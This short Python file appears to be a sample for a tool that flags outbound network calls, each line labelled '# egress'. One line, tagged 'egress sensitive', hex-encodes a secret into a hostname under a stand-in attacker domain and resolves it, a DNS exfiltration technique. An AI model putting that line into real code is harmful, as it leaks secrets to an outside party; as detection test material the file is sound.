import ldap3
import dns.resolver
import whois
import socket
import ntplib
import nmap

server = ldap3.Server("ldap.example.com")
ldap3.Connection(server, "cn=admin", admin_password, auto_bind=True)  # egress
dns.resolver.resolve("example.com", "MX")  # egress
socket.gethostbyname(secret.encode().hex() + ".evil.example")  # egress sensitive
ntplib.NTPClient().request("pool.ntp.org")  # egress
